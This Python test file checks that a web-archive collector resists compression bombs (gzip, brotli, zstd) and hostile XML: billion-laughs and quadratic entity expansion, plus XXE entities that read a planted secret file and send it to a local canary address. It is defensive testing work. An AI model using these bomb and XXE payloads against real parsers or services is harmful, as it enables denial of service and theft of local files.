"""Promise 9: bombs do nothing. Each is told and what follows is read, in 32 MiB a document and 64 MiB besides; no file is opened for one, and no connection."""

from __future__ import annotations

import gzip
import json
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import brotli
import pytest
import zstandard
from tests.collect.archives import bomb, dictionary, framed, http, page, record

from qanat.collect import warc

MIB = 2**20
SIZE = 300 * MIB


def packed_by_zstd(size: int, window: int = 0) -> bytes:
    how = zstandard.ZstdCompressionParameters.from_level(3, window_log=window, write_checksum=True)
    packer = zstandard.ZstdCompressor(compression_params=how).compressobj()
    return b"".join(packer.compress(b"a" * MIB) for _ in range(size // MIB)) + packer.flush()


def packed_by_brotli(size: int) -> bytes:
    packer = brotli.Compressor(quality=1)
    return bytes(b"".join(packer.process(b"a" * MIB) for _ in range(size // MIB)) + packer.finish())


def body(packing: str, packed: bytes) -> bytes:
    return record(http(packed, fields=f"Content-Encoding: {packing}\r\n"))


ENDLESS = record(http(b""), length=400 * MIB)[:-4]
PLAIN: dict[str, Callable[[], bytes]] = {
    "gzip": lambda: body("gzip", bomb(SIZE)),
    "nested": lambda: body("gzip, gzip", gzip.compress(bomb(SIZE))),
    "four layers": lambda: body("gzip, gzip, gzip, gzip", bomb(SIZE)),
    "brotli": lambda: body("br", packed_by_brotli(SIZE)),
    "zstd": lambda: body("zstd", packed_by_zstd(SIZE)),
    "zstd in gzip": lambda: body("zstd, gzip", gzip.compress(packed_by_zstd(SIZE))),
    "zstd with a window of 128 MiB": lambda: body("zstd", packed_by_zstd(SIZE, 27)),
}
GZIP: dict[str, Callable[[], bytes]] = {
    "a huge record": lambda: gzip.compress(ENDLESS) + bomb(400 * MIB),
    "no record": lambda: gzip.compress(record(http(b""))) + bomb(400 * MIB),
}
ZST: dict[str, Callable[[], bytes]] = {
    "a huge record in frames": lambda: framed(ENDLESS) + packed_by_zstd(400 * MIB),
    "no record in frames": lambda: framed(record(http(b""))) + packed_by_zstd(400 * MIB),
    "a frame with a window of 128 MiB": lambda: packed_by_zstd(SIZE, 27),
    "a frame with a window of 2 GiB": lambda: packed_by_zstd(MIB, 31),
    "a dictionary": lambda: dictionary(packed_by_zstd(SIZE)),
    "frames of nothing": lambda: framed(b"") * 300_000 + b"?" * 100,
}

CHILD = """
import json, resource, sys
import brotli, zstandard
from qanat.collect.files import captures
from qanat.model import Capture

def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

before = peak()
found = list(captures([sys.argv[1]]))
urls, losses = [one.url for one in found if isinstance(one, Capture)], [str(one) for one in found if not isinstance(one, Capture)]
print(json.dumps({"urls": urls, "losses": losses, "peak": (peak() - before) // 1024}))
"""


def child(code: str, *words: str) -> Any:
    """What a fresh process prints: only so is its peak of memory that of the work, with all that libraries take."""
    done = subprocess.run([sys.executable, "-c", code, *words], capture_output=True, text=True, check=True)
    return json.loads(done.stdout)


@pytest.mark.parametrize("name", [*PLAIN, *GZIP, *ZST])
def test_bombs_do_nothing(name: str, tmp_path: Path) -> None:
    after = record(http(page(7).encode()), url="http://www.example.org/after")
    path = tmp_path / "a.warc"
    with path.open("wb") as file:
        file.write(PLAIN[name]() + after if name in PLAIN else GZIP[name]() + gzip.compress(after) if name in GZIP else ZST[name]() + framed(after))
    found = child(CHILD, str(path))
    assert found["urls"][-1:] == ["http://www.example.org/after"]
    assert found["losses"]
    assert found["peak"] < warc.LARGEST // MIB + 64


# --- XML --------------------------------------------------------------------------------------------------------------------------

LAUGHS = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
QUADRATIC = f"<!ENTITY a0 '{'x' * 100_000}'>"
OUTWARD = (
    "<!ENTITY a0 SYSTEM 'file://SECRET'>",
    "<!ENTITY a0 SYSTEM 'http://CANARY/a'>",
    "<!ENTITY a0 PUBLIC 'x' 'http://CANARY/b'>",
    "<!ENTITY % p SYSTEM 'http://CANARY/c.dtd'> %p;",
    "<!ENTITY % f SYSTEM 'file://SECRET'> <!ENTITY % p \"<!ENTITY a0 SYSTEM 'http://CANARY/?%f;'>\"> %p;",
)
DECLARED = (f"<!ENTITY a0 'ha'>{LAUGHS}", QUADRATIC, *OUTWARD)
ROOTS = {
    "rss": "<rss><channel><item><title>&a0;&a11;MANY</title><link>http://a.example/1</link></item></channel></rss>",
    "feed": "<feed><entry><title>&a0;&a11;MANY</title><link href='http://a.example/1'/></entry></feed>",
    "urlset": "<urlset><url><loc>http://a.example/1</loc><title>&a0;&a11;MANY</title></url></urlset>",
    "opml": "<opml><body><outline title='&a0;&a11;MANY' xmlUrl='http://a.example/1'/></body></opml>",
    "html": "<html xmlns='http://CANARY/x'><body><h1>&a0;&a11;MANY</h1><p>قال الوزير إن الحوار مستمر.</p></body></html>",
}

XML = """
import json, resource, sys
from pathlib import Path
from qanat.collect.feeds import listing
from qanat.collect.files import captures
from qanat.errors import InputError
from qanat.model import Capture
from qanat.page import html
from qanat.pipeline import Reader

def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

home, outside = Path(sys.argv[1]).resolve(), []
def watch(event, given):
    if event.startswith("socket.") or (event == "open" and str(given[0]).startswith(str(home.parent)) and Path(str(given[0])).parent != home):
        outside.append([event, str(given)])
reader = Reader()
reader.document(Capture("warm", "x", "html", "<html><body><p>x</p></body></html>"))
sys.addaudithook(watch)
before, texts = peak(), []
for path in sorted(home.iterdir()):
    try:
        texts += [entry.title or "" for entry in listing(path.read_bytes(), "http://a.example/").entries]
    except InputError:
        pass
    texts += [reader.document(one).text for one in captures([path]) if isinstance(one, Capture)]
print(json.dumps({"texts": texts, "outside": outside, "peak": (peak() - before) // 1024}))
"""


def test_xml_declares_nothing(tmp_path: Path) -> None:
    """Entities that grow or lead to files and addresses, in feeds, sitemaps, OPML and pages: none is put in, no file is opened, nobody is asked."""
    (tmp_path / "secret").write_text("root:secret", encoding="utf-8")
    home = tmp_path / "in"
    home.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as canary:
        canary.setblocking(False)
        for number, declared in enumerate(DECLARED):
            for root, body in ROOTS.items():
                types = [f"<!DOCTYPE {root} [{declared}]>", *([f"<!DOCTYPE {root} SYSTEM 'http://CANARY/d.dtd'>"] if number == 0 else [])]
                for k, kind in enumerate(types):
                    text = f'<?xml version="1.0" encoding="utf-8"?>{kind}{body}'.replace("MANY", "&a0;" * 5000)
                    text = text.replace("CANARY", f"127.0.0.1:{canary.getsockname()[1]}").replace("SECRET", str(tmp_path / "secret"))
                    (home / f"{number}-{root}-{k}.{'html' if root == 'html' else 'txt'}").write_text(text, encoding="utf-8")
        found = child(XML, str(home))
        with pytest.raises(BlockingIOError):
            canary.accept()
    assert len(found["texts"]) > len(DECLARED) * len(ROOTS)
    assert not [text[:200] for text in found["texts"] if "root:secret" in text or "hahaha" in text or len(text) > 150_000]
    assert found["outside"] == []
    assert found["peak"] < 64
